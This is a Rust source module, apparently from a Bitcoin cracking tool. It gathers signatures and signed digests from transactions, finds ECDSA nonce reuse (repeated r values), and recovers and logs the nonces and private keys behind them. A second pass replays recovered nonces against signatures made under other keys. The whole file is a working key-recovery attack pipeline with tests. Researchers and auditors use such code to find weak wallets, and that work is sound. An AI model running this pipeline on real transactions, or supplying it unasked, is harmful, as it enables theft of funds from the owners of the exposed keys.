//! The crack pipeline: gather signature artifacts, find `r` collisions and
//! recover the secrets behind them.

use std::collections::{BTreeMap, BTreeSet, HashMap};

use num_bigint::BigInt;
use tracing::{debug, info, warn};

use crate::curve::Point;
use crate::ecdsa::{scalar_from_bytes, scalar_to_bytes, secp256k1, Ecdsa};
use crate::error::{Error, Result};
use crate::hashing::hash160;
use crate::script::{Script, ScriptItem};
use crate::sighash::{legacy_sighash, witness_sighash};
use crate::signature::{decode_signature, DecodedSignature};
use crate::transaction::{Output, Transaction, Txid};

/// How deep embedded scripts (redeem scripts pushed as data) are walked.
const MAX_SCRIPT_DEPTH: usize = 3;

/// A source of spent outputs, consulted for inputs whose funding transaction
/// was not part of the scanned set.
pub trait PrevOuts {
    fn prev_output(&self, txid: &[u8; 32], index: u32) -> Option<Output>;
}

/// The empty source: every previous output is unknown.
#[derive(Clone, Copy, Debug, Default)]
pub struct NoPrevOuts;

impl PrevOuts for NoPrevOuts {
    fn prev_output(&self, _txid: &[u8; 32], _index: u32) -> Option<Output> {
        None
    }
}

impl<F> PrevOuts for F
where
    F: Fn(&[u8; 32], u32) -> Option<Output>,
{
    fn prev_output(&self, txid: &[u8; 32], index: u32) -> Option<Output> {
        self(txid, index)
    }
}

/// Everything needed to attack one `(pubkey, signature)` witness of one
/// input: the signature scalars and the digest they cover.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct CrackArtifact {
    /// Id of the transaction the signature appeared in.
    pub txid: Txid,
    pub input_index: usize,
    /// The outpoint the input spends.
    pub prev_txid: [u8; 32],
    pub prev_index: u32,
    /// SEC1 pubkey bytes as pushed on the stack.
    pub pubkey: Vec<u8>,
    pub r: [u8; 32],
    pub s: [u8; 32],
    pub hashtype: u8,
    /// The signed digest.
    pub m: [u8; 32],
}

/// A recovered `(nonce, private key)` pair, attributed to the first artifact
/// that witnessed it.
#[cfg_attr(feature = "serde", derive(serde::Serialize, serde::Deserialize))]
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct RecoveredKey {
    pub pubkey: Vec<u8>,
    pub r: [u8; 32],
    pub k: [u8; 32],
    pub x: [u8; 32],
    pub txid: Txid,
    pub input_index: usize,
}

/// Scans transactions for signatures that reused a nonce and recovers the
/// private keys behind them.
///
/// Per-input problems (undecodable signatures, unknown spent outputs,
/// points off the curve) are logged and skipped; a run never aborts over a
/// single bad input.
#[derive(Debug, Default)]
pub struct Cracker {
    transactions: Vec<Transaction>,
    index: HashMap<[u8; 32], usize>,
}

impl Cracker {
    pub fn new() -> Cracker {
        Cracker::default()
    }

    /// Decode and index a raw transaction.
    pub fn add_transaction(&mut self, raw: &[u8]) -> Result<Txid> {
        let tx = Transaction::from_bytes(raw)?;
        let txid = tx.txid();
        self.index.insert(*txid.as_bytes(), self.transactions.len());
        self.transactions.push(tx);
        Ok(txid)
    }

    pub fn transactions(&self) -> &[Transaction] {
        &self.transactions
    }

    /// Run the whole pipeline and report every recovered key.
    pub fn run<P: PrevOuts>(&self, prev_outs: &P) -> Vec<RecoveredKey> {
        let artifacts = self.gather_artifacts(prev_outs);
        self.crack(&artifacts)
    }

    /// Walk every input of every scanned transaction and extract the
    /// `(pubkey, signature, digest)` artifacts the crack passes work on.
    pub fn gather_artifacts<P: PrevOuts>(&self, prev_outs: &P) -> Vec<CrackArtifact> {
        let mut artifacts = Vec::new();

        for tx in &self.transactions {
            let txid = tx.txid();
            for input_index in 0..tx.inputs.len() {
                match self.artifacts_for_input(tx, txid, input_index, prev_outs) {
                    Ok(mut found) => artifacts.append(&mut found),
                    Err(error) => {
                        warn!(%txid, input_index, %error, "skipping input");
                    }
                }
            }
        }

        info!(count = artifacts.len(), "gathered artifacts");
        artifacts
    }

    fn artifacts_for_input<P: PrevOuts>(
        &self,
        tx: &Transaction,
        txid: Txid,
        input_index: usize,
        prev_outs: &P,
    ) -> Result<Vec<CrackArtifact>> {
        let input = &tx.inputs[input_index];

        let mut pubkeys = Vec::new();
        let mut signatures = Vec::new();
        collect_items(
            input.script_sig.as_bytes(),
            &mut pubkeys,
            &mut signatures,
            MAX_SCRIPT_DEPTH,
        );

        let witness_stack = tx
            .witness
            .as_ref()
            .map(|witness| witness[input_index].stack.as_slice())
            .unwrap_or(&[]);
        for item in witness_stack {
            classify(item, &mut pubkeys, &mut signatures, MAX_SCRIPT_DEPTH);
        }

        if pubkeys.is_empty() || signatures.is_empty() {
            return Ok(Vec::new());
        }

        let spent = self.spent_output(prev_outs, &input.prev_txid, input.prev_index);

        let mut artifacts = Vec::new();
        for pubkey in &pubkeys {
            for signature in &signatures {
                let m = self.digest_for(tx, input_index, pubkey, signature, spent.as_ref())?;
                artifacts.push(CrackArtifact {
                    txid,
                    input_index,
                    prev_txid: input.prev_txid,
                    prev_index: input.prev_index,
                    pubkey: pubkey.clone(),
                    r: signature.r,
                    s: signature.s,
                    hashtype: signature.hashtype,
                    m,
                });
            }
        }

        Ok(artifacts)
    }

    /// The digest the signature covers, picking the legacy or witness rules
    /// for this input.
    fn digest_for(
        &self,
        tx: &Transaction,
        input_index: usize,
        pubkey: &[u8],
        signature: &DecodedSignature,
        spent: Option<&Output>,
    ) -> Result<[u8; 32]> {
        let witness_input = tx
            .witness
            .as_ref()
            .map(|witness| !witness[input_index].stack.is_empty())
            .unwrap_or(false);

        if witness_input {
            // BIP143 commits to the spent amount, so the digest cannot be
            // reconstructed without it.
            let spent = spent.ok_or(Error::MissingValue)?;
            return witness_sighash(
                tx,
                signature.hashtype,
                input_index,
                spent.value,
                &spent.script_pubkey,
            );
        }

        let script_code = match spent {
            Some(output) => output.script_pubkey.clone(),
            // The spent output is gone, but for the overwhelmingly common
            // p2pkh spend its script is a pure function of the pubkey.
            None => Script::p2pkh(&hash160(pubkey)),
        };

        legacy_sighash(tx, signature.hashtype, input_index, &script_code)
    }

    fn spent_output<P: PrevOuts>(
        &self,
        prev_outs: &P,
        txid: &[u8; 32],
        index: u32,
    ) -> Option<Output> {
        if let Some(&position) = self.index.get(txid) {
            if let Some(output) = self.transactions[position].outputs.get(index as usize) {
                return Some(output.clone());
            }
        }

        prev_outs.prev_output(txid, index)
    }

    /// Group artifacts by `(pubkey, r)` and recover keys: first from pairs
    /// within a group, then by replaying every known nonce against all
    /// remaining artifacts.
    fn crack(&self, artifacts: &[CrackArtifact]) -> Vec<RecoveredKey> {
        let ecdsa = secp256k1();
        let n = ecdsa.order().clone();

        let mut groups: BTreeMap<(&[u8], &[u8; 32]), Vec<&CrackArtifact>> = BTreeMap::new();
        for artifact in artifacts {
            groups
                .entry((artifact.pubkey.as_slice(), &artifact.r))
                .or_default()
                .push(artifact);
        }

        let mut known_x: BTreeSet<[u8; 32]> = BTreeSet::new();
        let mut known_k: BTreeMap<[u8; 32], BigInt> = BTreeMap::new();
        let mut reports = Vec::new();

        for ((pubkey, r), group) in &groups {
            if group.len() < 2 {
                continue;
            }

            let target = match ecdsa.curve().decode_point(pubkey) {
                Ok(point) => point,
                Err(error) => {
                    warn!(pubkey = %hex::encode(pubkey), %error, "skipping group");
                    continue;
                }
            };

            info!(
                pubkey = %hex::encode(pubkey),
                r = %hex::encode(r),
                count = group.len(),
                "found r collision"
            );

            for (first, second) in pairs(group) {
                if let Some((k, x)) =
                    self.crack_pair(&ecdsa, &target, first, second)
                {
                    known_k.insert(first.r, k.clone());
                    record(
                        &mut reports,
                        &mut known_x,
                        &n,
                        first,
                        &k,
                        &x,
                    );
                }
            }
        }

        // Second pass: a nonce recovered under one key cracks every other
        // signature that used it, even under a different key.
        for artifact in artifacts {
            let k = match known_k.get(&artifact.r) {
                Some(k) => k.clone(),
                None => continue,
            };

            let target = match ecdsa.curve().decode_point(&artifact.pubkey) {
                Ok(point) => point,
                Err(error) => {
                    debug!(pubkey = %hex::encode(&artifact.pubkey), %error, "skipping artifact");
                    continue;
                }
            };

            if let Some((k, x)) = self.crack_with_nonce(&ecdsa, &target, artifact, &k) {
                record(&mut reports, &mut known_x, &n, artifact, &k, &x);
            }
        }

        reports
    }

    /// Try `crack2` on a pair, over the four sign combinations of `s` that
    /// signature malleability allows. The candidate key is accepted only if
    /// it reproduces the witnessed pubkey.
    fn crack_pair(
        &self,
        ecdsa: &Ecdsa,
        target: &Point,
        first: &CrackArtifact,
        second: &CrackArtifact,
    ) -> Option<(BigInt, BigInt)> {
        let r = scalar_from_bytes(&first.r);
        let m1 = scalar_from_bytes(&first.m);
        let m2 = scalar_from_bytes(&second.m);
        let s1 = scalar_from_bytes(&first.s);
        let s2 = scalar_from_bytes(&second.s);

        for s1 in [s1.clone(), -&s1] {
            for s2 in [s2.clone(), -&s2] {
                match ecdsa.crack2(&r, &s1, &s2, &m1, &m2) {
                    Ok((k, x)) => {
                        if ecdsa.public_key(&x) == *target {
                            return Some((k, x));
                        }
                    }
                    Err(error) => {
                        debug!(%error, "crack candidate rejected");
                    }
                }
            }
        }

        None
    }

    /// Try `crack1` against an artifact with a nonce recovered elsewhere,
    /// over the sign combinations of both `k` and `s`.
    fn crack_with_nonce(
        &self,
        ecdsa: &Ecdsa,
        target: &Point,
        artifact: &CrackArtifact,
        k: &BigInt,
    ) -> Option<(BigInt, BigInt)> {
        let r = scalar_from_bytes(&artifact.r);
        let m = scalar_from_bytes(&artifact.m);
        let s = scalar_from_bytes(&artifact.s);

        for k in [k.clone(), -k] {
            for s in [s.clone(), -&s] {
                match ecdsa.crack1(&r, &s, &m, &k) {
                    Ok(x) => {
                        if ecdsa.public_key(&x) == *target {
                            return Some((k, x));
                        }
                    }
                    Err(error) => {
                        debug!(%error, "nonce replay rejected");
                    }
                }
            }
        }

        None
    }
}

/// Append a report unless the private key is trivial or already known.
fn record(
    reports: &mut Vec<RecoveredKey>,
    known_x: &mut BTreeSet<[u8; 32]>,
    n: &BigInt,
    artifact: &CrackArtifact,
    k: &BigInt,
    x: &BigInt,
) {
    let x_bytes = scalar_to_bytes(x, n);
    if x_bytes == [0u8; 32] || !known_x.insert(x_bytes) {
        return;
    }

    let report = RecoveredKey {
        pubkey: artifact.pubkey.clone(),
        r: artifact.r,
        k: scalar_to_bytes(k, n),
        x: x_bytes,
        txid: artifact.txid,
        input_index: artifact.input_index,
    };
    info!(
        pubkey = %hex::encode(&report.pubkey),
        k = %hex::encode(report.k),
        x = %hex::encode(report.x),
        "recovered private key"
    );
    reports.push(report);
}

/// All unordered pairs, in collection order.
fn pairs<'a>(
    group: &'a [&'a CrackArtifact],
) -> impl Iterator<Item = (&'a CrackArtifact, &'a CrackArtifact)> {
    group.iter().enumerate().flat_map(move |(i, first)| {
        group[i + 1..].iter().map(move |second| (*first, *second))
    })
}

/// Classify one pushed payload as a pubkey or a signature, or walk it as an
/// embedded script.
fn classify(
    data: &[u8],
    pubkeys: &mut Vec<Vec<u8>>,
    signatures: &mut Vec<DecodedSignature>,
    depth: usize,
) {
    if is_pubkey_candidate(data) {
        pubkeys.push(data.to_vec());
    } else if is_signature_candidate(data) {
        match decode_signature(data) {
            Ok(signature) => signatures.push(signature),
            Err(error) => debug!(%error, "undecodable signature candidate"),
        }
    } else if !data.is_empty() && depth > 0 {
        collect_items(data, pubkeys, signatures, depth - 1);
    }
}

/// Walk script bytecode collecting pushed pubkeys and signatures; iteration
/// errors end the walk silently, since arbitrary pushed data is routinely
/// not a script.
fn collect_items(
    bytecode: &[u8],
    pubkeys: &mut Vec<Vec<u8>>,
    signatures: &mut Vec<DecodedSignature>,
    depth: usize,
) {
    for item in Script::from_bytes(bytecode.to_vec()).iter() {
        match item {
            Ok(ScriptItem::Data(data)) => classify(data, pubkeys, signatures, depth),
            Ok(_) => {}
            Err(_) => break,
        }
    }
}

fn is_pubkey_candidate(data: &[u8]) -> bool {
    match data.len() {
        33 => data[0] == 0x02 || data[0] == 0x03,
        65 => data[0] == 0x04,
        _ => false,
    }
}

fn is_signature_candidate(data: &[u8]) -> bool {
    data.len() > 50 && data.len() < 74 && data[0] == 0x30
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pubkey_candidates() {
        assert!(is_pubkey_candidate(&[&[0x02u8][..], &[0u8; 32]].concat()));
        assert!(is_pubkey_candidate(&[&[0x04u8][..], &[0u8; 64]].concat()));
        assert!(!is_pubkey_candidate(&[&[0x05u8][..], &[0u8; 64]].concat()));
        assert!(!is_pubkey_candidate(&[0x02; 20]));
    }

    #[test]
    fn signature_candidates() {
        let mut der = vec![0x30];
        der.resize(71, 0);
        assert!(is_signature_candidate(&der));
        assert!(!is_signature_candidate(&der[..50]));
        let mut long = der.clone();
        long.resize(74, 0);
        assert!(!is_signature_candidate(&long));
    }

    #[test]
    fn embedded_scripts_are_walked() {
        // A redeem script containing a compressed pubkey, pushed as data.
        let mut redeem = vec![0x21];
        redeem.push(0x02);
        redeem.extend_from_slice(&[0x11; 32]);
        redeem.push(0xac);

        let mut outer = vec![redeem.len() as u8];
        outer.extend_from_slice(&redeem);

        let mut pubkeys = Vec::new();
        let mut signatures = Vec::new();
        collect_items(&outer, &mut pubkeys, &mut signatures, MAX_SCRIPT_DEPTH);

        assert_eq!(pubkeys.len(), 1);
        assert_eq!(pubkeys[0][0], 0x02);
    }

    #[test]
    fn missing_value_skips_witness_input() {
        let raw = hex::decode("02000000000101000102030405060708090a0b0c0d0e0f101112131415161718191a1b1c1d1e1f0100000000feffffff01c09ee605000000001976a9146dabc2a500bf128556fc379d9a265e3c6af2e01788ac0248304502207e0994bdf3c23a5e7e77d6e96f8570a0c06b34eec1eca25214d6d0d9753a415f022100ef4c81dae3d1983baa4f4e1aa77d47408f7864e9bf6b58d3fc3f82ed451f4b0d012103dffb68a9330fa567e82988b664984d5a08a32487c5279a253bdda28a1d69aedf00000000").unwrap();

        let mut cracker = Cracker::new();
        cracker.add_transaction(&raw).unwrap();

        assert_eq!(cracker.gather_artifacts(&NoPrevOuts), Vec::new());
    }

    #[test]
    fn witness_artifact_with_known_value() {
        let raw = hex::decode("02000000000101000102030405060708090a0b0c0d0e0f101112131415161718191a1b1c1d1e1f0100000000feffffff01c09ee605000000001976a9146dabc2a500bf128556fc379d9a265e3c6af2e01788ac0248304502207e0994bdf3c23a5e7e77d6e96f8570a0c06b34eec1eca25214d6d0d9753a415f022100ef4c81dae3d1983baa4f4e1aa77d47408f7864e9bf6b58d3fc3f82ed451f4b0d012103dffb68a9330fa567e82988b664984d5a08a32487c5279a253bdda28a1d69aedf00000000").unwrap();

        let mut cracker = Cracker::new();
        cracker.add_transaction(&raw).unwrap();

        let lookup = |_txid: &[u8; 32], _index: u32| -> Option<Output> {
            Some(Output {
                value: 100_000_000,
                script_pubkey: Script::new(),
            })
        };

        let artifacts = cracker.gather_artifacts(&lookup);
        assert_eq!(artifacts.len(), 1);
        assert_eq!(artifacts[0].pubkey.len(), 33);
        assert_eq!(
            hex::encode(artifacts[0].m),
            "43785d1357faae82a76f12da52caeaca6d0870e35cd0afc9b47fecda184cf4be"
        );
    }
}
